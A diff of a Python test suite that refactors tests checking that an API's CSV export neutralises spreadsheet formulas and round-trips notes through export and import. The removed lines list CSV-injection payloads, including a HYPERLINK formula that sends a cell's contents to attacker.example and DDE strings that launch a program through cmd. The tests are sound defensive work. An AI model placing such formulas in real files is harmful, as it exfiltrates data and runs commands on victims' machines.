@@ -16,20 +16,11 @@ from hypothesis import strategies as st
 
 from tests.api.factor_ids import PETROL_CAR
 from tests.api.helpers import signed_in
+from tests.csv_injection import FORMULA_STARTS, PAYLOADS, formula_like
 
 HEADER = "timestamp,quantity,unit,factorId,note\r\n"
 GOOD_ROW = f"2026-01-01T10:00:00Z,10,km,{PETROL_CAR},fine\r\n"
 CSV_FIELD_LIMIT = 131_072  # csv.field_size_limit()'s default
-FORMULA_STARTS = "=+-@\t\r"  # OWASP "CSV Injection": a cell may not start with one
-PAYLOADS = [
-    "=1+2",
-    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+2",
-    "\r=1+2",
-]
 TRICKY = ["'=1+2", "''@x", "'plain", "line one\r\nline two", "bare\rcr", "lf\nonly", " spaced "]
 
 
@@ -48,6 +39,24 @@ def _log(client: TestClient, headers: dict[str, str], note: str, minute: int) ->
     }
     response = client.post("/api/entries", json=body, headers=headers)
     assert response.status_code == 201, response.text
+
+
+def _log_notes(client: TestClient, headers: dict[str, str], notes: list[str]) -> None:
+    for minute, note in enumerate(notes):
+        _log(client, headers, note, minute)
+
+
+def _export_and_import(
+    client: TestClient, notes: list[str]
+) -> tuple[list[str | None], list[str | None]]:
+    """Alice logs `notes`; Bob imports her export: her notes as listed, and his."""
+    alice = signed_in(client)
+    _log_notes(client, alice, notes)
+    export = client.get("/api/entries/export", headers=alice).text
+    bob = signed_in(client)
+    response = _upload(client, bob, export)
+    assert response.status_code == 201, response.text
+    return _notes(client, alice), _notes(client, bob)
 
 
 def _notes(client: TestClient, headers: dict[str, str]) -> list[str | None]:
@@ -89,8 +98,7 @@ def test_a_header_csv_cannot_read_is_a_422(client: TestClient) -> None:
 
 def test_the_export_neutralises_formulas_and_quotes_line_breaks(client: TestClient) -> None:
     headers = signed_in(client)
-    for minute, note in enumerate(PAYLOADS + TRICKY):
-        _log(client, headers, note, minute)
+    _log_notes(client, headers, PAYLOADS + TRICKY)
     export = client.get("/api/entries/export", headers=headers).text
     rows = list(csv.reader(io.StringIO(export, newline="")))
     cells = [cell for row in rows for cell in row]
@@ -105,24 +113,13 @@ def test_the_export_neutralises_formulas_and_quotes_line_breaks(client: TestClie
 
 
 def test_an_export_imported_again_gives_back_exactly_the_notes(client: TestClient) -> None:
-    alice = signed_in(client)
-    for minute, note in enumerate(PAYLOADS + TRICKY):
-        _log(client, alice, note, minute)
-    export = client.get("/api/entries/export", headers=alice).text
-    bob = signed_in(client)
-    response = _upload(client, bob, export)
-    assert response.status_code == 201, response.text
-    assert _notes(client, bob) == _notes(client, alice)
-    assert sorted(note or "" for note in _notes(client, bob)) == sorted(PAYLOADS + TRICKY)
+    written, read = _export_and_import(client, PAYLOADS + TRICKY)
+    assert read == written
+    assert sorted(note or "" for note in read) == sorted(PAYLOADS + TRICKY)
 
 
 notes = st.text(alphabet=st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60)
-formula_notes = st.builds(
-    lambda quotes, start, rest: "'" * quotes + start + rest,
-    st.integers(0, 2),
-    st.sampled_from(FORMULA_STARTS),
-    st.text(max_size=20),
-)
+formula_notes = formula_like(st.text(max_size=20), max_quotes=2)
 
 
 @settings(
@@ -132,11 +129,5 @@ formula_notes = st.builds(
 )
 @given(written=st.lists(notes | formula_notes, min_size=1, max_size=4))
 def test_any_notes_survive_export_and_import(client: TestClient, written: list[str]) -> None:
-    alice = signed_in(client)
-    for minute, note in enumerate(written):
-        _log(client, alice, note, minute)
-    export = client.get("/api/entries/export", headers=alice).text
-    bob = signed_in(client)
-    response = _upload(client, bob, export)
-    assert response.status_code == 201, response.text
-    assert _notes(client, bob) == _notes(client, alice)
+    before, after = _export_and_import(client, written)
+    assert after == before
